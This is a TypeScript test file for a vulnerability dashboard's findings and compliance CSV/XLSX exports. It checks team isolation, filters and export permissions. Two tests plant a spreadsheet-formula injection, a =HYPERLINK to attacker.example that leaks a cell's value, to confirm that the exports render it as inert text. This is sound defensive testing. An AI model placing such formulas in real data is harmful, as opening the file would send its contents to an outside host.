import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { sharedDataPath } from '@vmdash/testing';
import type { Browser } from './support/dashboard-system';
import { startWorkflowSystem, TEAM_A, TEAM_B, type FindingJson, type PageJson, type WorkflowSystem } from './support/workflow-system';

/**
 * An owner cell an operator pasted into the asset inventory from a spreadsheet: a formula that would send the row's
 * data to another site when the export is opened (OWASP, "CSV Injection").
 */
const EVIL_OWNER = '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")';
/** The inventory host of TEAM_A whose owner is EVIL_OWNER. */
const EVIL_HOST = 'qa3app01';

/** The shared asset inventory with EVIL_HOST's owner replaced (a copy in a temporary folder, never in the repository). */
function inventoryWithFormulaOwner(): string {
  const lines = readFileSync(sharedDataPath('inventory/asset-inventory.csv'), 'utf8').split('\n');
  const changed = lines.map((line) => {
    const [hostname, ip, , team, ...rest] = line.split(',');
    return hostname === EVIL_HOST ? [hostname, ip, `"${EVIL_OWNER.replace(/"/g, '""')}"`, team, ...rest].join(',') : line;
  });
  const path = join(mkdtempSync(join(tmpdir(), 'vmdash-exports-')), 'asset-inventory.csv');
  writeFileSync(path, changed.join('\n'));
  return path;
}

type CsvRecord = Record<string, string>;

/** The group the export permission leaves out (interface spec, "Authentication: Dashboard": Read_Only cannot export). */
const EXPORTERS = ['Admin', 'Standard_User', 'Leadership'];

/** The columns of a compliance export: an item's fields (docs/decisions/0015), in that order. */
const COMPLIANCE_COLUMNS = [
  'hostname',
  'host_id',
  'source',
  'metric_id',
  'bu_team',
  'owner',
  'findings_count',
  'oldest_due_date',
  'days_overdue',
  'resolution_date',
  'remediation_plan',
  'status',
  'updated_at',
  'sla_policy_version',
] as const;

/** A compliance item of GET /api/compliance/items, as far as this test reads it. */
type ComplianceItemJson = Record<(typeof COMPLIANCE_COLUMNS)[number], string | number | null>;

/** A cell as a spreadsheet-safe export writes it (OWASP, "CSV Injection"): a leading quote before = + - @ tab CR. */
const inert = (value: string | number | null) => (value === null ? '' : /^[=+\-@\t\r]/.test(String(value)) ? `'${value}` : String(value));

async function csvExport(browser: Browser, query = '', table = 'findings'): Promise<{ status: number; records: CsvRecord[]; disposition: string | null; header: string[] }> {
  const answer = await browser.request('GET', `/api/exports/${table}.csv${query}`);
  const rows = answer.status === 200 ? (parse(answer.text, { bom: true }) as string[][]) : [];
  const [header = [], ...body] = rows;
  const records = body.map((row) => Object.fromEntries(header.map((name, index) => [name, row[index] ?? ''])));
  return { status: answer.status, records, disposition: answer.headers.get('content-disposition'), header };
}

/** The rows of the one sheet of an XLSX download, the header first (each cell's value and type). */
async function xlsxExport(world: WorkflowSystem, browser: Browser, path: string): Promise<{ status: number; contentType: string | null; rows: { value: unknown; type: number }[][] }> {
  const answer = await fetch(`${world.system.url}${path}`, { headers: { cookie: [...browser.cookies].map(([name, value]) => `${name}=${value}`).join('; ') } });
  if (answer.status !== 200) return { status: answer.status, contentType: answer.headers.get('content-type'), rows: [] };
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(await answer.arrayBuffer()) as unknown as Parameters<typeof workbook.xlsx.load>[0]);
  const sheet = workbook.worksheets[0]!;
  const rows: { value: unknown; type: number }[][] = [];
  for (let row = 1; row <= sheet.rowCount; row++) {
    const cells = sheet.getRow(row);
    rows.push(Array.from({ length: sheet.columnCount }, (_, index) => ({ value: cells.getCell(index + 1).value, type: cells.getCell(index + 1).type })));
  }
  return { status: answer.status, contentType: answer.headers.get('content-type'), rows };
}

/** Every item GET /api/compliance/items lists for `browser` with `query` (page after page). */
async function listedItems(browser: Browser, query = ''): Promise<ComplianceItemJson[]> {
  const items: ComplianceItemJson[] = [];
  for (let page = 1; ; page++) {
    const answer = await browser.request('GET', `/api/compliance/items?page_size=500&page=${page}${query ? `&${query}` : ''}`);
    expect(answer.status).toBe(200);
    const body = answer.body as PageJson<ComplianceItemJson>;
    items.push(...body.items);
    if (items.length >= body.total || body.items.length === 0) return items;
  }
}

/** The CSV record a compliance item becomes: each field as text, null empty, formula-like text inert. */
const complianceRecord = (item: ComplianceItemJson): CsvRecord => Object.fromEntries(COMPLIANCE_COLUMNS.map((column) => [column, inert(item[column])]));

/** Black-box: the findings exports through the gateway on the real exports (docs/decisions/0015). */
describe('findings exports on real scanner exports', () => {
  let world: WorkflowSystem;
  let alice: Browser;
  let bob: Browser;
  let teamAFindings: FindingJson[];

  beforeAll(async () => {
    world = await startWorkflowSystem({ sources: { inventory: inventoryWithFormulaOwner() } });
    alice = (await world.signedIn('Standard_User', [TEAM_A])).browser;
    bob = (await world.signedIn('Standard_User', [TEAM_B])).browser;
    teamAFindings = ((await alice.request('GET', '/api/findings?page_size=200')).body as PageJson<FindingJson>).items;
  });
  afterAll(async () => {
    await world?.stop();
  });

  it("when a user exports findings as CSV, then the file holds exactly the rows GET /api/findings lists, in its order, and none of another team's", async () => {
    const { status, records, disposition } = await csvExport(alice);
    expect(status).toBe(200);
    expect(disposition).toMatch(/^attachment; filename=findings-\d{4}-\d{2}-\d{2}\.csv$/);
    const total = ((await alice.request('GET', '/api/findings?page_size=1')).body as PageJson<FindingJson>).total;
    expect(records).toHaveLength(total);
    // An alpha finding has no active_host_findings_id: an empty cell, null in the list.
    const rowId = (record: Record<string, string>) => (record.active_host_findings_id === '' ? null : Number(record.active_host_findings_id));
    expect(records.slice(0, teamAFindings.length).map(rowId)).toEqual(teamAFindings.map((finding) => finding.active_host_findings_id));
    expect(records.slice(0, teamAFindings.length).map((record) => record.source)).toEqual(teamAFindings.map((finding) => finding.source));
    expect(records.every((record) => record.bu_team === TEAM_A)).toBe(true);
    const bobs = await csvExport(bob);
    expect(bobs.records.length).toBeGreaterThan(0);
    expect(bobs.records.every((record) => record.bu_team === TEAM_B)).toBe(true);
    const keyOf = (record: Record<string, string>) => [record.source, record.host_id, record.scanner_id, record.active_host_findings_id].join('|');
    const aliceKeys = new Set(records.map(keyOf));
    expect(bobs.records.some((record) => aliceKeys.has(keyOf(record)))).toBe(false);
  });

  it('when the export is filtered, then every row passes the filter of GET /api/findings', async () => {
    const { records } = await csvExport(alice, '?severity=high&sort=first_seen');
    const listed = ((await alice.request('GET', '/api/findings?severity=high&sort=first_seen&page_size=200')).body as PageJson<FindingJson>).items;
    expect(records.map((record) => Number(record.active_host_findings_id))).toEqual(listed.map((finding) => finding.active_host_findings_id));
    expect(records.every((record) => record.severity === 'high')).toBe(true);
  });

  it('when findings are exported unsorted or filtered by risk, then the rows carry their risk, highest first, and pass the filter', async () => {
    const { header, records } = await csvExport(alice);
    expect(header[0]).toBe('source');
    expect(header.slice(-7)).toEqual(['risk_score', 'risk_rating', 'host_risk_score', 'status', 'fixed_at', 'change', 'changed_at']);
    const scores = records.map((record) => Number(record.risk_score));
    expect(scores).toEqual([...scores].sort((a, b) => b - a));
    const floor = scores[Math.floor(scores.length / 2)]!;
    const filtered = await csvExport(alice, `?min_risk_score=${floor}`);
    expect(filtered.records.length).toBeGreaterThan(0);
    expect(filtered.records.every((record) => Number(record.risk_score) >= floor)).toBe(true);
  });

  it('when an owner in the inventory is a =HYPERLINK formula, then both exports carry it as inert text', async () => {
    const { records } = await csvExport(alice, `?hostname=${EVIL_HOST}`);
    expect(records.length).toBeGreaterThan(0);
    expect(records.every((record) => record.owner === `'${EVIL_OWNER}`)).toBe(true);
    const xlsx = await fetch(`${world.system.url}/api/exports/findings.xlsx?hostname=${EVIL_HOST}`, { headers: { cookie: [...alice.cookies].map(([name, value]) => `${name}=${value}`).join('; ') } });
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as unknown as Parameters<typeof workbook.xlsx.load>[0]);
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const ownerColumn = header.indexOf('owner') + 1;
    expect(sheet.rowCount).toBe(records.length + 1);
    for (let row = 2; row <= sheet.rowCount; row++) {
      const cell = sheet.getRow(row).getCell(ownerColumn);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(`'${EVIL_OWNER}`);
    }
  });

  it('when a Read_Only user exports findings or compliance items, then it is 403 naming the groups required; Leadership gets every file', async () => {
    const reader = (await world.signedIn('Read_Only', [TEAM_A])).browser;
    const leader = (await world.signedIn('Leadership', [TEAM_A])).browser;
    for (const path of ['/api/exports/findings.csv', '/api/exports/findings.xlsx', '/api/exports/compliance.csv', '/api/exports/compliance.xlsx']) {
      expect([path, await reader.request('GET', path)]).toMatchObject([path, { status: 403, body: { error: 'Insufficient permissions', required: EXPORTERS, current: 'Read_Only' } }]);
      const answer = await leader.request('GET', path);
      expect([path, answer.status, answer.headers.get('content-disposition')]).toEqual([
        path,
        200,
        expect.stringMatching(/^attachment; filename=(findings|compliance)-\d{4}-\d{2}-\d{2}\.(csv|xlsx)$/),
      ]);
    }
    const led = await csvExport(leader);
    expect(led.records.length).toBe(((await alice.request('GET', '/api/findings?page_size=1')).body as PageJson<FindingJson>).total);
  });

  it('when the query is malformed or asks for a page, then it is a 400', async () => {
    expect((await alice.request('GET', '/api/exports/findings.csv?severity=urgent')).status).toBe(400);
    expect((await alice.request('GET', '/api/exports/findings.xlsx?page=2')).status).toBe(400);
    expect((await alice.request('GET', '/api/exports/compliance.csv?status=open')).status).toBe(400);
    expect((await alice.request('GET', '/api/exports/compliance.xlsx?page_size=10')).status).toBe(400);
    expect((await alice.request('GET', '/api/exports/compliance.csv?overdue=maybe')).status).toBe(400);
  });
});

/** Black-box: the compliance exports through the gateway on the real exports and the shared KEV catalog (docs/decisions/0015). */
describe('compliance exports on real scanner exports', () => {
  let world: WorkflowSystem;
  let carol: Browser;
  let dave: Browser;
  let teamA: string;

  beforeAll(async () => {
    world = await startWorkflowSystem();
    const admin = await world.admin();
    expect((await admin.request('POST', '/api/auth/team-scope', { body: { scope: 'all' } })).status).toBe(200);
    // Team A: the team with the most compliance items in the real exports; team B: another team with items.
    const perTeam = new Map<string, number>();
    for (const item of await listedItems(admin)) if (item.bu_team) perTeam.set(String(item.bu_team), (perTeam.get(String(item.bu_team)) ?? 0) + 1);
    const teams = [...perTeam].sort((a, b) => b[1] - a[1]).map(([team]) => team);
    expect(teams.length).toBeGreaterThanOrEqual(2);
    teamA = teams[0]!;
    carol = (await world.signedIn('Standard_User', [teamA])).browser;
    dave = (await world.signedIn('Standard_User', [teams[1]!])).browser;
  });
  afterAll(async () => {
    await world?.stop();
  });

  it('when a user exports compliance items as CSV, then the file holds exactly the items GET /api/compliance/items lists with the same filters, in its order', async () => {
    for (const query of ['', 'metric_id=kev-overdue', 'status=active&overdue=false', 'status=resolved', `bu_team=${encodeURIComponent(teamA)}&metric_id=critical-sla`]) {
      const { status, records, disposition, header } = await csvExport(carol, query ? `?${query}` : '', 'compliance');
      expect([query, status, disposition]).toEqual([query, 200, expect.stringMatching(/^attachment; filename=compliance-\d{4}-\d{2}-\d{2}\.csv$/)]);
      expect(header).toEqual([...COMPLIANCE_COLUMNS]);
      expect([query, records]).toEqual([query, (await listedItems(carol, query)).map(complianceRecord)]);
    }
    expect((await csvExport(carol, '', 'compliance')).records.length).toBeGreaterThan(0);
  });

  it("when two teams export compliance items, then neither file holds an item of the other's team", async () => {
    const mine = (await csvExport(carol, '', 'compliance')).records;
    const theirs = (await csvExport(dave, '', 'compliance')).records;
    expect(mine.length).toBeGreaterThan(0);
    expect(theirs.length).toBeGreaterThan(0);
    expect(mine.every((record) => record.bu_team === teamA)).toBe(true);
    expect(theirs.some((record) => record.bu_team === teamA)).toBe(false);
    const mineKeys = new Set(mine.map((record) => `${record.hostname}/${record.metric_id}/${record.source}`));
    expect(theirs.some((record) => mineKeys.has(`${record.hostname}/${record.metric_id}/${record.source}`))).toBe(false);
  });

  it('when a remediation_plan is a =HYPERLINK formula, then both compliance exports carry it as inert text', async () => {
    const [target] = await listedItems(carol, 'status=active');
    const plan = '=HYPERLINK("http://attacker.example/?leak="&A2,"Open the plan")';
    const path = `/api/compliance/items/${encodeURIComponent(String(target!.hostname))}/metadata`;
    expect((await carol.request('PATCH', path, { body: { metric_id: target!.metric_id, remediation_plan: plan } })).status).toBe(200);
    const query = `?metric_id=${target!.metric_id}&bu_team=${encodeURIComponent(teamA)}`;
    const csv = (await csvExport(carol, query, 'compliance')).records.filter((record) => record.hostname === target!.hostname && record.source === target!.source);
    expect(csv.map((record) => record.remediation_plan)).toEqual([`'${plan}`]);
    const xlsx = await xlsxExport(world, carol, `/api/exports/compliance.xlsx${query}`);
    expect(xlsx.status).toBe(200);
    expect(xlsx.contentType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const [header, ...rows] = xlsx.rows;
    expect(header!.map((cell) => cell.value)).toEqual([...COMPLIANCE_COLUMNS]);
    const planColumn = COMPLIANCE_COLUMNS.indexOf('remediation_plan');
    const hostColumn = COMPLIANCE_COLUMNS.indexOf('hostname');
    const sourceColumn = COMPLIANCE_COLUMNS.indexOf('source');
    const cells = rows.filter((row) => row[hostColumn]!.value === target!.hostname && row[sourceColumn]!.value === target!.source).map((row) => row[planColumn]!);
    expect(cells).toEqual([{ value: `'${plan}`, type: ExcelJS.ValueType.String }]);
    expect(rows).toHaveLength((await listedItems(carol, query.slice(1))).length);
  });
});
